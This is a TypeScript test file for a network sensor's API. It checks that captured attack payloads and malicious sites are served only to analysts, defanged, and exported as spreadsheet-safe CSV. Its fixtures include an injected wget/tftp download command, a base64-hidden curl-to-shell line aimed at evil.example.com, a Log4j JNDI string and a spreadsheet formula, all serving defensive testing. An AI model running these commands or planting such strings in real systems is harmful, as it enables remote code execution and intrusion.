/** Payloads and malicious sites as the API tells them, over a real store: to whom, in which forms, and never as links. */
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { ApiParts } from '../../server/api/parts.ts';
import { payloadId } from '../../server/api/payload-ids.ts';
import { buildApp } from '../../server/app.ts';
import { openDuckDbStoresInThread } from '../../server/store/duckdb/core.ts';
import type { DuckDbStores } from '../../server/store/duckdb/operations.ts';
import { emptyServerLedger } from '../../shared/counters.ts';
import { ingestCommit, NOON_SECONDS } from '../support/commits.ts';
import { makeFolder } from '../support/folders.ts';
import { keyOf, payloadRow } from '../support/payload-rows.ts';
import { projectFolder } from '../support/program.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');
const SHELL = 'x;wget http://192.0.2.9/a.sh?next=http://198.51.100.8/b -O-;tftp -g -r "=cmd" 192.0.2.7; ';
const HIDDEN = `echo ${base64('curl https://user:word@evil.example.com:8443/c,"d')}|base64 -d|sh`;
// biome-ignore lint/suspicious/noTemplateCurlyInString: that is Log4j's, not ours
const JNDI = 'X-Api: ${${lower:j}ndi:ldap://192.0.2.3:1389/Exploit} ';
const LONG = 'z'.repeat(600);

const session = { id: 0, kind: 'live', firstSeconds: NOON_SECONDS, lastSeconds: NOON_SECONDS + 1 };
const other = { ...session, id: 3, kind: 'file' };
let app: FastifyInstance;
let stores: DuckDbStores;
let removeFolder: () => Promise<void>;
/** What the server says that it stored. */
let payloadPackets = 48;

beforeAll(async () => {
  const { folder, remove } = await makeFolder();
  removeFolder = remove;
  stores = await openDuckDbStoresInThread(folder);
  const payloads = [
    payloadRow({
      text: SHELL,
      packets: 30,
      ports: [80, 8080],
      hasMorePorts: true,
      sources: ['203.0.113.5', '203.0.113.6'],
    }),
    payloadRow({ text: SHELL, packets: 3, sensor: 2 }),
    payloadRow({ text: HIDDEN, packets: 9, wireBytes: 2_000 }),
    payloadRow({ text: JNDI, packets: 2, ports: [23], lastSeconds: NOON_SECONDS + 1 }),
    payloadRow({ text: LONG, packets: 4, protocol: 17 }),
    payloadRow({ text: SHELL, packets: 1, session: 3 }),
  ];
  await stores.flows.commit({ ...ingestCommit({}), payloads });
  const parts = {
    ...{ flows: stores.flows, series: stores.series, evidence: stores.evidence, payloads: stores.payloads },
    catalog: {
      sessions: async () => [session, other],
      sensors: async () => [{ id: 1, name: '=HYPERLINK("x")', place: null }],
    },
    live: { current: () => ({ record: session }), viewers: [] },
    ledgers: () => [
      { session: 0, sensor: 1, server: { ...emptyServerLedger(), payloadPackets }, health: null },
      // As one is read that an earlier version stored.
      { session: 0, sensor: 2, server: { packetsStored: 0 }, health: null },
    ],
    tokens: { find: (token: string) => ({ role: token }) },
    software: 'kurayami 0',
    pageFolder: projectFolder,
  } as unknown as ApiParts;
  app = await buildApp(parts);
});
afterAll(async () => {
  await app.close();
  await stores.close();
  await removeFolder();
});

async function ask(path: string, role = 'analyst') {
  const headers = { authorization: `Bearer ${role}`, host: 'localhost' };
  const answer = await app.inject({ url: `/api/v1/${path}`, headers });
  return { status: answer.statusCode, headers: answer.headers, text: answer.body, body: () => answer.json() };
}

const shellId = payloadId(keyOf(SHELL));
const routes = ['payloads', `payloads/${shellId}`, 'malicious-sites', 'malicious-sites?format=csv'];

describe('for analysts', () => {
  test.for(routes)('%s', async (path) => {
    for (const role of ['analyst', 'administrator']) expect((await ask(path, role)).status).toBe(200);
    for (const bad of [path, 'payloads?limit=0', 'payloads/none', 'malicious-sites?order=none']) {
      const refused = await ask(bad, 'viewer');
      expect(refused.status).toBe(403);
      expect(refused.body()).toMatchObject({ code: 'ACCESS_TARGETS' });
      expect(refused.text).not.toContain(shellId);
    }
    expect((await ask(path, 'sensor')).body()).toMatchObject({ status: 403, code: 'ACCESS_ROLE' });
    const anyone = await app.inject({ url: `/api/v1/${path}`, headers: { host: 'localhost' } });
    expect(anyone.statusCode).toBe(403);
  });
});

test('payloads, most packets first', async () => {
  const { body } = await ask('payloads');
  expect(body()).toMatchObject({ session: 0, total: 4, account: { present: 48, expired: 0, givenUp: 0 } });
  expect(body().payloads[0]).toEqual({
    ...{ id: shellId, digest: keyOf(SHELL).digest.toString(16).padStart(16, '0'), protocol: 'tcp' },
    ...{ bytes: SHELL.length, captured: SHELL.length, kept: SHELL.length, packets: 33 },
    ...{ first: '2023-11-15T12:00:00.000Z', last: '2023-11-15T12:00:00.000Z' },
    ...{ ports: [80, 8080], morePorts: true, sources: 2, sensors: ['=HYPERLINK("x")', '2'], sites: 2 },
    hex: Buffer.from(SHELL).toString('hex'),
  });
  expect(body().payloads.map(({ packets }: { packets: number }) => packets)).toEqual([33, 9, 4, 2]);
  expect(body().payloads[1]).toMatchObject({ bytes: 2_000, captured: HIDDEN.length, kept: HIDDEN.length });
  // 256 bytes in the list, all by itself.
  expect(body().payloads[2]).toMatchObject({ protocol: 'udp', kept: 600, hex: '7a'.repeat(256) });
  expect((await ask(`payloads/${payloadId(keyOf(LONG, 17))}`)).body().hex).toBe('7a'.repeat(600));
});

test.for([
  ['sites=true', 3],
  ['sites=false', 4],
  ['port=8080', 1],
  ['protocol=udp', 1],
  ['protocol=17', 1],
  ['protocol=1', 0],
  ['session=3', 1],
  ['from=2023-11-15T12:00:01Z', 1],
  ['to=2023-11-15T12:00:01Z', 3],
] as const)('payloads?%s: %i', async ([query, total]) => {
  const { body } = await ask(`payloads?${query}&order=last&limit=1`);
  expect(body().total).toBe(total);
  expect(body().payloads).toHaveLength(Math.min(total, 1));
});

test('one payload, with its sources and sites', async () => {
  const { body } = await ask(`payloads/${shellId}`);
  expect(body()).toMatchObject({ id: shellId, packets: 33, sample: ['203.0.113.5', '203.0.113.6'], sites: 2 });
  expect(body().siteList).toHaveLength(2);
  expect((await ask(`payloads/${shellId}?session=3`)).body()).toMatchObject({ packets: 1 });
});

test('malicious sites are defanged', async () => {
  const { body } = await ask('malicious-sites');
  expect(body()).toMatchObject({ session: 0, total: 4, from: '2023-11-15T11:00:02.000Z' });
  expect(body().sites).toContainEqual({
    url: 'hxxp[:]//192[.]0[.]2[.]9/a.sh?next=hxxp[:]//198[.]51[.]100[.]8/b',
    ...{ host: '192[.]0[.]2[.]9', tool: 'wget', steps: [], cut: false, packets: 33, payloads: 1, sources: 2 },
    ...{ sensors: ['=HYPERLINK("x")', '2'], sample: ['203.0.113.5', '203.0.113.6'], ids: [shellId] },
    ...{ first: '2023-11-15T12:00:00.000Z', last: '2023-11-15T12:00:00.000Z' },
  });
  const urls = body().sites.map(({ url, host, steps }: { url: string; host: string; steps: string[] }) => [
    url,
    host,
    steps,
  ]);
  expect(urls).toContainEqual(['tfxp[:]//192[.]0[.]2[.]7/=cmd', '192[.]0[.]2[.]7', []]);
  expect(urls).toContainEqual(['ldap[:]//192[.]0[.]2[.]3:1389/Exploit', '192[.]0[.]2[.]3', ['lookups']]);
  const hidden = 'hxxps[:]//user:word[@]evil[.]example[.]com:8443/c,';
  expect(urls).toContainEqual([hidden, 'evil[.]example[.]com', ['base64']]);
});

test('no answer has an address that could be followed', async () => {
  const paths = [
    ...routes,
    'payloads?sites=true',
    `payloads/${payloadId(keyOf(HIDDEN, 6, 2_000))}`,
    `payloads/${payloadId(keyOf(JNDI))}`,
    'malicious-sites?format=ndjson',
    'payloads/http:%2F%2F192.0.2.9%2Fa.sh',
  ];
  for (const path of paths) {
    const { text } = await ask(path);
    expect(text, path).not.toMatch(/[a-z]:\/\//i);
    expect(text, path).not.toMatch(/192\.0\.2\.|198\.51\.100\.8|evil\.example/);
  }
});

test('as a file: CSV that runs nothing in a spreadsheet, and lines of JSON', async () => {
  const csv = await ask('malicious-sites?format=csv');
  expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(csv.headers['content-disposition']).toBe('attachment; filename="malicious-sites.csv"');
  const lines = csv.text.split('\r\n');
  expect(lines[0]).toBe('url,host,tool,steps,cut,packets,payloads,sources,sensors,first,last,sample,ids');
  expect(lines).toHaveLength(6);
  expect(lines[1]).toContain(',33,1,2,"\'=HYPERLINK(""x"") 2",2023-11-15T12:00:00.000Z,');
  expect(csv.text).not.toMatch(/(^|[,\n]"?)[=+\-@]/);
  const ndjson = await ask('malicious-sites?format=ndjson');
  expect(ndjson.headers['content-type']).toMatch(/^application\/x-ndjson/);
  expect(ndjson.headers['content-disposition']).toBe('attachment; filename="malicious-sites.ndjson"');
  const rows = ndjson.text.trimEnd().split('\n');
  expect(rows.map((row) => JSON.parse(row))).toEqual((await ask('malicious-sites')).body().sites);
});

test.for([
  ['payloads/none', 400, 'API_BAD_PAYLOAD'],
  [`payloads/${'a'.repeat(41)}`, 400, 'API_BAD_REQUEST'],
  ['payloads/0123456789abcdef-256-1', 400, 'API_BAD_PAYLOAD'],
  ['payloads/0123456789abcdef-6-65536', 400, 'API_BAD_PAYLOAD'],
  ['payloads/0123456789ABCDEF-6-1', 400, 'API_BAD_PAYLOAD'],
  ['payloads/0123456789abcdef-06-1', 400, 'API_BAD_PAYLOAD'],
  ['payloads/0123456789abcdef-6-1', 404, 'API_NO_PAYLOAD'],
  ['payloads/ffffffffffffffff-255-65535', 404, 'API_NO_PAYLOAD'],
  [`payloads/${shellId}?session=9`, 404, 'API_NO_SESSION'],
  ['payloads?limit=501', 400, 'API_BAD_REQUEST'],
  ['payloads?limit=0', 400, 'API_BAD_REQUEST'],
  ['payloads?port=65536', 400, 'API_BAD_REQUEST'],
  ['payloads?protocol=256', 400, 'API_BAD_REQUEST'],
  ['payloads?protocol=sctp', 400, 'API_BAD_REQUEST'],
  ['payloads?order=bytes', 400, 'API_BAD_REQUEST'],
  ['payloads?from=yesterday', 400, 'API_BAD_TIME'],
  ['payloads?from=2200-01-01T00:00:00Z', 400, 'API_BAD_SPAN'],
  ['malicious-sites?limit=1001', 400, 'API_BAD_REQUEST'],
  ['malicious-sites?format=xlsx', 400, 'API_BAD_REQUEST'],
] as const)('%s: %i %s', async ([path, status, code]) => {
  const answer = await ask(path);
  expect(answer.status).toBe(status);
  expect(answer.body()).toMatchObject({ code });
});

test('the ledger holds what was stored against what is there', async () => {
  const sum = 'payloadPackets = packets in payloads that are there + expired + given up';
  const ofPayloads = async () => {
    const answer = (await ask('ledger', 'viewer')).body();
    return { store: answer.payloadStore, check: answer.stored.find((check: { sum: string }) => check.sum === sum) };
  };
  expect(await ofPayloads()).toEqual({
    store: { present: 48, expired: 0, givenUp: 0 },
    check: { sum, left: 48, right: 48, inFlight: 0, holds: true },
  });
  payloadPackets = 47;
  expect((await ofPayloads()).check).toMatchObject({ holds: false });
  payloadPackets = 48;
});

test('the description has the routes', async () => {
  const { paths } = (await ask('openapi.json')).body();
  expect(Object.keys(paths)).toEqual(
    expect.arrayContaining(['/api/v1/payloads', '/api/v1/payloads/{id}', '/api/v1/malicious-sites']),
  );
});
